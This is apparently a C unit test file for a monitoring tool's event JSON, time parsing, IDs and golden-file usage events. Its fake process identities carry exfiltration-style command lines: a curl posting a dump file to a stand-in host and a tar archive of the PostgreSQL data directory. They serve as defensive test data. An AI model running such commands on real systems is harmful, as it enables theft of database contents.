// SPDX-License-Identifier: GPL-2.0
/* Event JSON: valid whatever a process names itself; stable usage events
 * compared with a golden file. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdlib.h>
#include <unistd.h>
#include "check.h"
#include "base/config.h"
#include "base/event.h"
#include "base/identity.h"
#include "output/output.h"
#include "sensor/usage.h"

static char *dump(json_t *j)
{
	return json_dumps(j, JSON_COMPACT | JSON_PRESERVE_ORDER | JSON_ENCODE_ANY);
}

static void expect_string(const char *bytes, size_t len, const char *want_json)
{
	json_t *j = json_string_bytes(bytes, len);
	char *s = dump(j);

	CHECK_EQ_STR(s, want_json);
	free(s);
	json_decref(j);
}

static void test_strings(void)
{
	expect_string("plain", 5, "\"plain\"");
	expect_string("a\"b\\c", 5, "\"a\\\"b\\\\c\"");
	expect_string("l1\nl2\t\x01", 7, "\"l1\\nl2\\t\\u0001\"");
	/* invalid UTF-8: lone continuation, truncated sequence, overlong,
	 * surrogate, > U+10FFFF: each bad byte becomes U+FFFD */
	expect_string("\x80", 1, "\"\xef\xbf\xbd\"");
	expect_string("a\xc3", 2, "\"a\xef\xbf\xbd\"");
	expect_string("\xc0\xaf", 2, "\"\xef\xbf\xbd\xef\xbf\xbd\"");
	expect_string("\xed\xa0\x80", 3, "\"\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\"");
	expect_string("\xf4\x90\x80\x80", 4, "\"\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\"");
	/* valid multi-byte kept */
	expect_string("\xc3\xa9t\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80", 14,
		      "\"\xc3\xa9t\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80\"");
	/* NUL inside: a space */
	expect_string("a\0b", 3, "\"a b\"");
	/* every byte value: still valid JSON that jansson reads back */
	{
		char all[256];
		json_t *j, *back;
		char *s;
		json_error_t err;

		for (int i = 0; i < 256; i++)
			all[i] = (char)i;
		j = json_string_bytes(all, sizeof(all));
		s = dump(j);
		back = json_loads(s, JSON_DECODE_ANY, &err);
		CHECK(back != NULL);
		json_decref(back);
		free(s);
		json_decref(j);
	}
	CHECK(json_is_null(json_string_safe(NULL)));
}

static void test_time(void)
{
	char buf[40];
	uint64_t ns;

	CHECK_EQ_STR(format_rfc3339(0, buf, sizeof(buf)), "1970-01-01T00:00:00.000000Z");
	CHECK_EQ_STR(format_rfc3339(1795416077123456789ull, buf, sizeof(buf)),
		     "2026-11-23T06:41:17.123456Z");
	CHECK_EQ_INT(parse_rfc3339("2026-11-23T06:41:17.123456Z", &ns), 0);
	CHECK(ns == 1795416077123456000ull);
	CHECK_EQ_INT(parse_rfc3339("2026-11-23T07:41:17+01:00", &ns), 0);
	CHECK(ns == 1795416077000000000ull);
	CHECK_EQ_INT(parse_rfc3339("2026-11-23T06:41:17", &ns), -1);
	CHECK_EQ_INT(parse_rfc3339("2026-13-23T06:41:17Z", &ns), -1);
	CHECK_EQ_INT(parse_rfc3339("2026-11-23T06:41:17.Z", &ns), -1);
	CHECK_EQ_INT(parse_rfc3339("", &ns), -1);
	CHECK_EQ_INT(parse_rfc3339("1969-12-31T23:59:59Z", &ns), -1);
}

static void test_set_path(void)
{
	json_t *e = json_object();
	char *s;

	CHECK_EQ_INT(event_set(e, "a.b.c", json_integer(1)), 0);
	CHECK_EQ_INT(event_set(e, "a.b.d", json_integer(2)), 0);
	CHECK_EQ_INT(event_set(e, "a.b.c.x", json_integer(3)), -1); /* c is not an object */
	CHECK_EQ_INT(event_set(e, ".x", json_integer(3)), -1);
	s = dump(e);
	CHECK_EQ_STR(s, "{\"a\":{\"b\":{\"c\":1,\"d\":2}}}");
	free(s);
	json_decref(e);
}

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");

	if (f) {
		fputs(text, f);
		fclose(f);
	}
}

/* host.id from a machine-id file, trimmed, omitted if unreadable or empty;
 * event.id: seed then counter, 32 hex digits; related.* deduplicated. */
static void test_ids(void)
{
	char path[] = "/tmp/vigie-machine-id-XXXXXX";
	int fd = mkstemp(path);
	json_t *e;
	char *s;

	close(fd);
	write_file(path, " 0123456789abcdef0123456789abcdef\n");
	CHECK_EQ_INT(event_host_id_from_file(path), 0);
	CHECK_EQ_STR(event_host_id(), "0123456789abcdef0123456789abcdef");
	write_file(path, "\n");
	CHECK_EQ_INT(event_host_id_from_file(path), -1);
	CHECK(event_host_id() == NULL);
	unlink(path);
	CHECK_EQ_INT(event_host_id_from_file(path), -1);
	CHECK(event_host_id() == NULL);

	event_set_host_id("m1");
	event_seed_ids(0xabcdef);
	e = event_new(0, "metric", "network", "info", "usage");
	CHECK_EQ_STR(json_string_value(json_object_get(json_object_get(e, "event"), "id")),
		     "0000000000abcdef0000000000000000");
	CHECK_EQ_STR(json_string_value(json_object_get(json_object_get(e, "host"), "id")), "m1");
	json_decref(e);
	e = event_new(0, "metric", "network", "info", "usage");
	CHECK_EQ_STR(json_string_value(json_object_get(json_object_get(e, "event"), "id")),
		     "0000000000abcdef0000000000000001");
	json_decref(e);
	event_set_host_id(NULL);
	CHECK(event_seed_of("a") != event_seed_of("b"));

	e = json_object();
	event_set(e, "user.name", json_string("root"));
	event_set(e, "user.audit.name", json_string("alice"));
	event_set(e, "vigie.db_user", json_string("root"));
	event_set(e, "vigie.app_users", json_pack("[{s:s},{s:s},{}]", "user", "bob", "user", "alice"));
	event_set(e, "source.ip", json_string("10.0.0.1"));
	event_set(e, "destination.ip", json_string("10.0.0.1"));
	event_relate(e);
	s = dump(json_object_get(e, "related"));
	CHECK_EQ_STR(s, "{\"user\":[\"root\",\"alice\",\"bob\"],\"ip\":[\"10.0.0.1\"]}");
	free(s);
	json_decref(e);
}

static struct identity *fake_identity(uint32_t pid, const char *comm, const char *cmd, size_t cmdlen)
{
	struct identity *id = calloc(1, sizeof(*id));

	id->refs = 1;
	id->pid = pid;
	id->ppid = 1;
	id->uid = 0;
	id->loginuid = 1000;
	snprintf(id->comm, sizeof(id->comm), "%s", comm);
	id->exe = strdup("/usr/bin/curl");
	id->cmdline = malloc(cmdlen);
	memcpy(id->cmdline, cmd, cmdlen);
	id->cmdline_len = cmdlen;
	id->cgroup_path = strdup("/system.slice/app.service");
	id->user_name = "root";
	id->audit_name = "alice";
	id->complete = true;
	return id;
}

/* Usage events for a fixed set of counters must match the golden file. */
static void test_usage_golden(void)
{
	static const char cmd[] = "curl -d @\"dump\".csv\nhttp://x \xff\xfe";
	char path[] = "/tmp/vigie-usage-XXXXXX";
	struct vigie_config cfg;
	struct identity *a, *b;
	struct output *out;
	struct usage *u;
	char *dirs[1] = { "/var/lib/postgresql" };
	int fd = mkstemp(path);

	config_init(&cfg);
	cfg.usage_detail = USAGE_FLOW; /* this golden file is one event per flow */
	event_set_host("golden-host");
	event_set_host_id("5c1ab0c0ffee4e1f9a3e0d1f2b3c4d5e");
	event_seed_ids(0x5eed);
	a = fake_identity(4242, "cu\"rl\n", cmd, sizeof(cmd) - 1);
	b = fake_identity(77, "tar", "tar cf - /var/lib/postgresql", 28);
	free(b->exe);
	b->exe = strdup("/usr/bin/tar");
	u = usage_new(&cfg, dirs, 1);
	out = output_open(path);
	{
		struct vigie_flow_key k = { .tgid = 4242, .uid = 0, .cgroup_id = 99,
					    .cls = VIGIE_CLASS_EGRESS, .family = AF_INET,
					    .rport = 443, .lport = 40000, .proto = 6 };
		struct vigie_counter v = { .bytes = 1000, .ops = 3 };

		inet_pton(AF_INET, "203.0.113.9", k.raddr);
		usage_add(u, &k, &v, false, a);
		usage_add(u, &k, &v, false, a); /* same key: summed */
		k.family = AF_INET6;
		k.proto = 17;
		inet_pton(AF_INET6, "2001:db8::7", k.raddr);
		usage_add(u, &k, &v, false, a);
		memset(&k, 0, sizeof(k));
		k.tgid = 4242;
		k.cls = VIGIE_CLASS_EGRESS;
		usage_add(u, &k, &v, true, a); /* from the coarse map */
		memset(&k, 0, sizeof(k));
		k.tgid = 77;
		k.cls = VIGIE_CLASS_DB_FILE;
		k.lport = 0;
		v.bytes = 8192;
		v.ops = 1;
		usage_add(u, &k, &v, false, b);
	}
	CHECK_EQ_INT(usage_entries(u), 4);
	CHECK_EQ_INT(usage_flush(u, 1795416000000000000ull, 1795416060000000000ull, out), 4);
	CHECK_EQ_INT(usage_entries(u), 0);
	output_close(out);
	{
		char cmdbuf[512];

		snprintf(cmdbuf, sizeof(cmdbuf), "diff -u tests/golden/usage/expected.jsonl %s >&2", path);
		if (getenv("VIGIE_GOLDEN_UPDATE")) {
			snprintf(cmdbuf, sizeof(cmdbuf), "cp %s tests/golden/usage/expected.jsonl", path);
			CHECK_EQ_INT(system(cmdbuf), 0);
		} else {
			CHECK_EQ_INT(system(cmdbuf), 0);
		}
	}
	close(fd);
	unlink(path);
	usage_free(u);
	identity_put(a);
	identity_put(b);
	config_free(&cfg);
}

int main(void)
{
	test_strings();
	test_time();
	test_set_path();
	test_ids();
	test_usage_golden();
	return check_summary();
}
